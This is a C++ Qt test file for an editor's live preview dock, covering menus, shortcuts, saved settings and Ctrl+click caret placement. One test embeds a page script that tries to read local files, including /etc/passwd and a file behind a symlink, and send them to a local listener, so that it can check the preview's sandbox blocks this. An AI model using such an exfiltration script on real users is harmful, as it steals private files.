// The live preview in the frame: View, Live Preview (F6) in both menu trees,
// the dock following the active page, the choice kept in the settings, and
// pages that try to send files away. On a real display (e2e_live_preview)
// the keys and clicks go through the X server.
#include "StartedFrame.h"

#include "browser/BrowserEngine.h"
#include "browser/LiveArea.h"
#include "browser/LiveCaret.h"
#include "browser/LivePreviewDock.h"
#include "editor/EditorSettings.h"
#include "shell/FrameMenus.h"

#include "TestFiles.h"

#include <QAction>
#include <QApplication>
#include <QStandardPaths>
#include <QTcpServer>
#include <QTcpSocket>
#include <QtTest>

using namespace tw;

namespace {

constexpr int kLoad = test::kCeiling;

bool onX()
{
    return QGuiApplication::platformName() == QLatin1String("xcb");
}

// Keys through the X server when there is one, else through Qt.
void press(QWidget *target, const char *xKeys, Qt::Key key)
{
    if (onX())
        QCOMPARE(QProcess::execute(QStringLiteral("xdotool"), {QStringLiteral("key"), QString::fromLatin1(xKeys)}), 0);
    else
        QTest::keyClick(target, key);
}

void typeText(QWidget *target, const QString &text)
{
    if (onX())
        QCOMPARE(QProcess::execute(QStringLiteral("xdotool"),
                                   {QStringLiteral("type"), QStringLiteral("--delay"), QStringLiteral("20"), text}),
                 0);
    else
        QTest::keyClicks(target, text);
}

// A click at this point of the screen on the view, Ctrl held or not: through
// the X server when there is one, else through Qt.
void click(QWidget *view, const QPoint &at, bool ctrl)
{
    if (onX()) {
        const QStringList x{"mousemove", QString::number(at.x()), QString::number(at.y())};
        const QStringList how = ctrl ? QStringList{"keydown", "ctrl", "click", "1", "keyup", "ctrl"}
                                     : QStringList{"click", "1"};
        QCOMPARE(QProcess::execute(QStringLiteral("xdotool"), x + how), 0);
        return;
    }
    QWidget *input = view->focusProxy();
    QVERIFY(input);
    const QPoint local = input->mapFromGlobal(at);
    QTest::mouseMove(input, local);
    QTest::mouseClick(input, Qt::LeftButton, ctrl ? Qt::ControlModifier : Qt::NoModifier, local);
}

QString scriptResult(LiveArea *area, const QString &script)
{
    QString text;
    QEventLoop loop;
    area->runScript(script, [&](const QVariant &v) {
        text = v.toString();
        loop.quit();
    });
    QTimer::singleShot(kLoad, &loop, &QEventLoop::quit); // a guard
    loop.exec();
    return text.trimmed();
}

QString shownText(LiveArea *area)
{
    return scriptResult(area, QStringLiteral("document.body ? document.body.innerText : ''"));
}

} // namespace

class LiveFrameTest : public QObject {
    Q_OBJECT
    QTemporaryDir m_dir;
    test::ScriptedDialogs m_dialogs;

private slots:
    void initTestCase()
    {
        QStandardPaths::setTestModeEnabled(true);
        test::startIn(m_dir.path());
        addBrowserModuleDir(QStringLiteral(TW_BROWSER_MODULE_DIR));
        // The page gets exactly the typed text: no closing tags or
        // completion added while typing.
        editorSettings::setCloseTags(false);
        editorSettings::setCompletion(false);
        if (onX() && QStandardPaths::findExecutable(QStringLiteral("xdotool")).isEmpty())
            QSKIP("xdotool is not installed");
    }

    void livePreviewFollowsTyping()
    {
        editorSettings::setLivePreview(false);
        auto frame = test::startFrame(m_dialogs);
        CommandActions &a = frame->commands();
        // Both View menus carry it, unchecked, on F6; the engine is not loaded.
        for (QMenu *view : {frame->menus().mnuView, frame->menus().documentView}) {
            QAction *live = test::menuItem(view, "mnuViewLivePreview");
            QVERIFY(live);
            QCOMPARE(live->text(), QStringLiteral("&Live Preview"));
            QCOMPARE(live->shortcut(), QKeySequence(Qt::Key_F6));
            QVERIFY(live->isCheckable() && !live->isChecked());
        }
        QVERIFY(!frame->findChild<LivePreviewDock *>());
        QVERIFY(!browserEngineLoaded());

        frame->activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(frame.get(), test::kCeiling));
        SourceEditor *editor = frame->activeDocument()->textEdit;
        press(editor, "F6", Qt::Key_F6);
        LivePreviewDock *dock = nullptr;
        QTRY_VERIFY_WITH_TIMEOUT((dock = frame->findChild<LivePreviewDock *>()) && dock->isVisible(), kLoad);
        QCOMPARE(dock->windowTitle(), QStringLiteral("Live Preview"));
        QCOMPARE(frame->dockWidgetArea(dock), Qt::RightDockWidgetArea);
        QVERIFY(a.viewLivePreview->isChecked());
        QVERIFY(test::menuItem(frame->menus().mnuView, "mnuViewLivePreview")->isChecked());
        QVERIFY(editorSettings::livePreview());
        QVERIFY(dock->area());
        // On Xvfb without a window manager the engine's start leaves the
        // frame without the input focus; the user clicks it back.
        frame->activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(frame.get(), test::kCeiling));
        // The editor keeps the keys: the dock takes no focus.
        QTRY_VERIFY_WITH_TIMEOUT(editor->hasFocus(), kLoad);

        typeText(editor, QStringLiteral("<h1>Hello live</h1>"));
        QTRY_COMPARE_WITH_TIMEOUT(shownText(dock->area()), QStringLiteral("Hello live"), kLoad);
        QVERIFY(editor->isModified());
        QVERIFY(QDir(m_dir.path()).entryList(QDir::Files).isEmpty());

        // A new window: the dock follows it; back to the first, and its text.
        frame->NewDocument();
        QTRY_COMPARE_WITH_TIMEOUT(shownText(dock->area()), QString(), kLoad);
        typeText(frame->activeDocument()->textEdit, QStringLiteral("<p>second</p>"));
        QTRY_COMPARE_WITH_TIMEOUT(shownText(dock->area()), QStringLiteral("second"), kLoad);
        frame->mdiArea->activatePreviousSubWindow();
        QTRY_COMPARE_WITH_TIMEOUT(shownText(dock->area()), QStringLiteral("Hello live"), kLoad);

        // Closing the dock unchecks the item and keeps the choice.
        dock->close();
        QVERIFY(!a.viewLivePreview->isChecked());
        QVERIFY(!editorSettings::livePreview());
        press(frame->activeDocument()->textEdit, "F6", Qt::Key_F6);
        QTRY_VERIFY_WITH_TIMEOUT(dock->isVisible(), kLoad);
        QVERIFY(editorSettings::livePreview());

        // No document window: an empty view.
        for (frmDocument *d : frame->documents())
            d->closeWithoutQuestion();
        QTRY_VERIFY_WITH_TIMEOUT(frame->documents().isEmpty(), test::kCeiling);
        QTRY_COMPARE_WITH_TIMEOUT(shownText(dock->area()), QString(), kLoad);
    }

    // The next start shows the dock at once, on the first page.
    void choiceIsKept()
    {
        QVERIFY(editorSettings::livePreview());
        auto frame = test::startFrame(m_dialogs);
        auto *dock = frame->findChild<LivePreviewDock *>();
        QVERIFY(dock);
        QTRY_VERIFY_WITH_TIMEOUT(dock->isVisible(), test::kCeiling);
        QVERIFY(frame->commands().viewLivePreview->isChecked());
        QCOMPARE(dock->document(), frame->activeDocument());
        frame->commands().viewLivePreview->trigger();
        QVERIFY(!dock->isVisible());
        QVERIFY(!editorSettings::livePreview());
    }

    // A page in the live preview tries to carry files' text to a listener on
    // 127.0.0.1: by a picture as it loads (local pages take nothing from the
    // web), and by a window at the user's first click in the preview. What
    // its folder holds may arrive; a file beside the folder, behind a
    // symbolic link or elsewhere never does.
    void pagesCarryNoFileOut()
    {
        QTcpServer listener;
        QVERIFY(listener.listen(QHostAddress::LocalHost));
        QByteArray heard;
        connect(&listener, &QTcpServer::newConnection, &listener, [&] {
            while (QTcpSocket *socket = listener.nextPendingConnection())
                connect(socket, &QTcpSocket::readyRead, socket, [&heard, socket] {
                    heard += socket->readAll();
                    if (heard.contains("\r\n\r\n") && socket->property("answered").isNull()) {
                        socket->setProperty("answered", true);
                        socket->write("HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n<title>heard</title>");
                        socket->disconnectFromHost();
                    }
                });
        });
        QDir(m_dir.path()).mkpath(QStringLiteral("leak/site"));
        const QString leak = m_dir.filePath(QStringLiteral("leak"));
        QVERIFY(test::writeBytes(leak + "/secret.txt", "hidden-words"));
        QVERIFY(test::writeBytes(leak + "/site/in.txt", "folder-words"));
        QVERIFY(QFile::link(leak + "/secret.txt", leak + "/site/link.txt"));
        const QString page = leak + "/site/page.htm";
        QVERIFY(test::writeBytes(page, QStringLiteral(R"(<body style="margin:0;height:100vh"><p>leak</p><script>
const to = 'http://127.0.0.1:%1/';
const tries = ['in.txt', '../secret.txt', 'link.txt', 'file://%2/secret.txt', 'twlive:%2/secret.txt',
               'file:///etc/passwd'];
let got = '';
const xhr = u => new Promise(done => { const x = new XMLHttpRequest(); x.onload = () => done(x.responseText);
  x.onerror = () => done(''); try { x.open('GET', u); x.send(); } catch (e) { done(''); } });
Promise.all(tries.map(xhr).concat(tries.map(u => fetch(u).then(r => r.text()).catch(() => ''))))
  .then(texts => { got = encodeURIComponent(texts.join('|')); new Image().src = to + 'load?' + got;
                   document.title = 'ready'; });
document.addEventListener('click', () => window.open(to + 'click?' + got));
</script>)").arg(listener.serverPort()).arg(leak).toUtf8()));

        editorSettings::setLivePreview(true);
        auto frame = test::startFrame(m_dialogs);
        frame->openFiles({page});
        auto *dock = frame->findChild<LivePreviewDock *>();
        QVERIFY(dock);
        QTRY_VERIFY_WITH_TIMEOUT(dock->isVisible() && dock->area(), kLoad);
        QTRY_VERIFY_WITH_TIMEOUT(shownText(dock->area()) == QLatin1String("leak"), kLoad);
        QTRY_COMPARE_WITH_TIMEOUT(scriptResult(dock->area(), QStringLiteral("document.title")), QStringLiteral("ready"), kLoad);

        QWidget *view = dock->area()->widget();
        const QPoint at = view->mapToGlobal(view->rect().center());
        click(view, at, false);
        QVERIFY(!QTest::currentTestFailed());
        QTRY_VERIFY_WITH_TIMEOUT(heard.contains("GET /click?"), kLoad);
        QVERIFY2(heard.contains("folder-words") && !heard.contains("GET /load?"), heard.constData());
        QVERIFY2(!heard.contains("hidden-words") && !heard.contains("root%3A"), heard.constData());
        editorSettings::setLivePreview(false);
    }

    // Ctrl+click on an element the engine wrote out of a page with left-out
    // tags puts the editor's caret on its tag, and the keys go there.
    void ctrlClickGoesToTheTag()
    {
        editorSettings::setLivePreview(true);
        auto frame = test::startFrame(m_dialogs);
        auto *dock = frame->findChild<LivePreviewDock *>();
        QVERIFY(dock);
        QTRY_VERIFY_WITH_TIMEOUT(dock->isVisible() && dock->area(), kLoad);
        SourceEditor *editor = frame->activeDocument()->textEdit;
        const QByteArray page = "<ul><li>one<li>two</ul><table><tr><td style='padding:30px'>cell</td></table>";
        editor->loadBytes(page);
        QTRY_VERIFY_WITH_TIMEOUT(shownText(dock->area()).endsWith(QLatin1String("cell")), kLoad);
        // html, head, body, ul, li, li, table, tbody, tr, td
        QTRY_COMPARE_WITH_TIMEOUT(dock->caret()->map().size(), 10, kLoad);
        const QStringList box = scriptResult(dock->area(), QStringLiteral("(function(){const r=document.querySelector"
                                                                          "('td').getBoundingClientRect();return "
                                                                          "(r.x+r.width/2)+','+(r.y+r.height/2);})()"))
                                    .split(QLatin1Char(','));
        QCOMPARE(box.size(), 2);
        QWidget *view = dock->area()->widget();
        const double zoom = dock->area()->zoom();
        const QPoint at = view->mapToGlobal(QPointF(box[0].toDouble() * zoom, box[1].toDouble() * zoom).toPoint());
        frame->activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(frame.get(), test::kCeiling));
        click(view, at, true);
        QVERIFY(!QTest::currentTestFailed());
        const long td = long(page.indexOf("<td"));
        QTRY_COMPARE_WITH_TIMEOUT(editor->SendScintilla(QsciScintillaBase::SCI_GETCURRENTPOS), td, kLoad);
        QTRY_VERIFY_WITH_TIMEOUT(editor->hasFocus(), kLoad);
        typeText(editor, QStringLiteral("x"));
        QTRY_COMPARE_WITH_TIMEOUT(editor->documentBytes().mid(td, 4), QByteArray("x<td"), kLoad);
        editorSettings::setLivePreview(false);
        editor->setModified(false);
    }
};

QTEST_MAIN(LiveFrameTest)
#include "tst_live_frame.moc"
